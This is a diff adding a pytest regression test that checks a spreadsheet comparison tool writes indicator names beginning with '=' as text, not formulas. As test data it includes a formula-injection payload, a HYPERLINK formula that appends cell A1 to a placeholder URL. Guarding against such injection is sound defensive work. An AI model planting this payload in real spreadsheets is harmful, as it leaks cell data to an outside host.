@@ -170,3 +170,24 @@ def test_indicator_template_lists_every_unit_indicator_and_period(rounds: dict[s
     assert [c.value for c in ws[1]] == ["Unit Kerja", "Periode", "Indikator", "Nilai", "Arah"]
     units = {r[0] for r in rows}
     assert len(rows) == len(units) * 4 * 2 and {r[1] for r in rows} == {"2025", "2026"}
+
+
+def test_indicator_names_from_the_analysts_file_never_become_formulas(rounds: dict[str, Any], tmp_path: Path) -> None:
+    """openpyxl takes a text starting with "=" for a formula: the added sheets keep it text (hostile-input
+    campaign: a unit named =HYPERLINK(…) became a live link in Indikator Layanan and its chart sheet)."""
+    base = am.compare(sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"], tanggal=TANGGAL)
+    unit = base.comparison.units["unit_kerja"].iloc[0]
+    payload = '=HYPERLINK("http://contoh.invalid/"&A1,"klik")'
+    rows = [(unit, "2025", payload, 10, "turun baik"), (unit, "2026", payload, 14, "turun baik"),
+            (unit, "2025", "=1+1", 1, "naik baik"), (unit, "2026", "=1+1", 2, "naik baik")]  # fmt: skip
+    out = tmp_path / "perbandingan.xlsx"
+    am.compare(
+        sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"],
+        indikator=_indicator_file(tmp_path / "indikator.csv", rows), output=out, tanggal=TANGGAL,
+    )  # fmt: skip
+    wb = openpyxl.load_workbook(out)
+    for name in ("Indikator Layanan", "Indikator Layanan (Grafik)"):
+        cells = [c for row in wb[name].iter_rows() for c in row if c.value is not None]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], name
+    texts = {c.value for row in wb["Indikator Layanan"].iter_rows() for c in row}
+    assert payload in texts and "=1+1" in texts
